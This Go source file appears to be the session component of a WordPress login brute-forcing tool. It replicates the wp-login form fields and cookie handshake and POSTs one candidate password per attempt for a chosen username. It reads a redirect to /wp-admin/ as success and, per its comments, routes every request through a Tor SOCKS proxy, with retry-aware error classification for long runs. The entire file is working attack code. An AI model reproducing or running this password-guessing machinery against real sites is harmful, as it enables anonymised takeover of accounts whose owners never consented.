package session

import (
	"context"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"net"
	"net/http"
	"net/url"
	"strings"
)

// adminPath is the post-login destination requested via the redirect_to form
// field. A successful WordPress login redirects here, which is exactly what
// the default success indicators look for.
const adminPath = "/wp-admin/"

// Form field names of the WordPress login form. They are fixed; this tool
// does not parse HTML to discover them.
const (
	fieldUser     = "log"
	fieldPassword = "pwd"
	fieldSubmit   = "wp-submit"
	fieldRedirect = "redirect_to"
	fieldCookie   = "testcookie"
)

// Response is one observed HTTP exchange, reduced to the classifier's
// inputs.
type Response struct {
	// StatusCode is the HTTP status of the login POST.
	StatusCode int

	// Body is the response body, capped at the configured read limit.
	Body string

	// RedirectTarget is the Location header when the status is a
	// redirect, empty otherwise.
	RedirectTarget string
}

// Session issues login attempts against one target through an injected HTTP
// client. The client is expected to come from the tor package, so every
// request rides the SOCKS proxy and shares one cookie jar across the form
// GET and the login POST.
type Session struct {
	// client performs all requests. Redirects are forced off below:
	// a 3xx Location header is classifier evidence and following it
	// would both consume the evidence and issue extra requests.
	client *http.Client

	// targetURL is the login endpoint.
	targetURL string

	// username is the account under test, sent in the form's log field.
	username string

	// redirectTo is adminPath resolved against the target, sent in the
	// form's redirect_to field.
	redirectTo string

	// maxBodySize caps how many bytes of a response body are read.
	maxBodySize int64

	// logger is used for structured logging.
	logger *slog.Logger
}

// Option is a function that configures a Session.
type Option func(*Session)

// WithMaxBodySize caps response body reads. Non-positive values are ignored.
func WithMaxBodySize(n int64) Option {
	return func(s *Session) {
		if n > 0 {
			s.maxBodySize = n
		}
	}
}

// WithLogger sets a custom logger.
// If not set, slog.Default() is used.
func WithLogger(logger *slog.Logger) Option {
	return func(s *Session) {
		s.logger = logger
	}
}

// New creates a Session for the login form at targetURL, trying candidates
// against username. The client's redirect policy is overridden so redirects
// are never followed.
func New(client *http.Client, targetURL, username string, opts ...Option) (*Session, error) {
	parsed, err := url.Parse(targetURL)
	if err != nil {
		return nil, fmt.Errorf("invalid target URL: %w", err)
	}

	s := &Session{
		client:      client,
		targetURL:   targetURL,
		username:    username,
		redirectTo:  parsed.ResolveReference(&url.URL{Path: adminPath}).String(),
		maxBodySize: 5 * 1024 * 1024,
	}

	for _, opt := range opts {
		opt(s)
	}

	if s.logger == nil {
		s.logger = slog.Default()
	}

	// Never follow redirects, whatever the injected client was built
	// with. The Location header is the classifier's strongest signal.
	s.client.CheckRedirect = func(_ *http.Request, _ []*http.Request) error {
		return http.ErrUseLastResponse
	}

	return s, nil
}

// Verify checks that the target is reachable through the proxy before the
// run starts. Any transport failure or non-200 status is wrapped in
// ErrVerifyFailed; the caller treats that as fatal.
func (s *Session) Verify(ctx context.Context) error {
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, s.targetURL, nil)
	if err != nil {
		return fmt.Errorf("%w: %v", ErrVerifyFailed, err)
	}

	resp, err := s.client.Do(req)
	if err != nil {
		return fmt.Errorf("%w: %v", ErrVerifyFailed, err)
	}
	defer resp.Body.Close() //nolint:errcheck // Response body close on read path

	// Drain so the connection can be reused for the attempts.
	_, _ = io.Copy(io.Discard, io.LimitReader(resp.Body, s.maxBodySize)) //nolint:errcheck // Best effort drain

	if resp.StatusCode != http.StatusOK {
		return fmt.Errorf("%w: target returned status %d", ErrVerifyFailed, resp.StatusCode)
	}

	s.logger.Debug("session verified", "target", s.targetURL, "status", resp.StatusCode)
	return nil
}

// Attempt tries one candidate password: it fetches the login form (picking
// up whatever cookies the endpoint sets), POSTs the credentials with
// redirects disabled, and returns the classifier's inputs.
//
// Timeouts and connection failures come back wrapped in ErrTimeout or
// ErrConnection so the retry layer and the engine can tell transient
// failures from fatal ones.
func (s *Session) Attempt(ctx context.Context, password string) (*Response, error) {
	if err := s.fetchForm(ctx); err != nil {
		return nil, err
	}

	form := url.Values{
		fieldUser:     {s.username},
		fieldPassword: {password},
		fieldSubmit:   {"Log In"},
		fieldRedirect: {s.redirectTo},
		fieldCookie:   {"1"},
	}

	req, err := http.NewRequestWithContext(ctx, http.MethodPost, s.targetURL, strings.NewReader(form.Encode()))
	if err != nil {
		return nil, fmt.Errorf("failed to build login request: %w", err)
	}
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")

	resp, err := s.client.Do(req)
	if err != nil {
		return nil, classifyTransportError(err)
	}
	defer resp.Body.Close() //nolint:errcheck // Response body close on read path

	body, err := io.ReadAll(io.LimitReader(resp.Body, s.maxBodySize))
	if err != nil {
		return nil, classifyTransportError(err)
	}

	result := &Response{
		StatusCode: resp.StatusCode,
		Body:       string(body),
	}
	if resp.StatusCode >= 300 && resp.StatusCode < 400 {
		result.RedirectTarget = resp.Header.Get("Location")
	}

	return result, nil
}

// fetchForm GETs the login page before an attempt. WordPress sets a test
// cookie on the form page and rejects POSTs that do not send it back; the
// shared cookie jar carries it to the POST.
func (s *Session) fetchForm(ctx context.Context) error {
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, s.targetURL, nil)
	if err != nil {
		return fmt.Errorf("failed to build form request: %w", err)
	}

	resp, err := s.client.Do(req)
	if err != nil {
		return classifyTransportError(err)
	}
	defer resp.Body.Close() //nolint:errcheck // Response body close on read path

	_, _ = io.Copy(io.Discard, io.LimitReader(resp.Body, s.maxBodySize)) //nolint:errcheck // Best effort drain

	if resp.StatusCode != http.StatusOK {
		s.logger.Warn("unexpected login form status", "status", resp.StatusCode)
	}
	return nil
}

// classifyTransportError maps a transport failure onto the session error
// taxonomy. Timeouts and connection-level failures are transient; anything
// unrecognized is returned as-is and treated as fatal by the engine.
func classifyTransportError(err error) error {
	// Cancellation is neither transient nor fatal; it has to surface
	// unchanged so the engine lands in the Interrupted state.
	if errors.Is(err, context.Canceled) {
		return err
	}

	var netErr net.Error
	if errors.As(err, &netErr) && netErr.Timeout() {
		return fmt.Errorf("%w: %v", ErrTimeout, err)
	}
	if errors.Is(err, context.DeadlineExceeded) {
		return fmt.Errorf("%w: %v", ErrTimeout, err)
	}

	var opErr *net.OpError
	if errors.As(err, &opErr) {
		return fmt.Errorf("%w: %v", ErrConnection, err)
	}
	if errors.Is(err, io.EOF) || errors.Is(err, io.ErrUnexpectedEOF) {
		return fmt.Errorf("%w: %v", ErrConnection, err)
	}

	var urlErr *url.Error
	if errors.As(err, &urlErr) {
		// url.Error wraps everything the transport produces; treat the
		// remainder as connection-level trouble rather than aborting
		// the whole run on, say, a single malformed response.
		return fmt.Errorf("%w: %v", ErrConnection, err)
	}

	return err
}
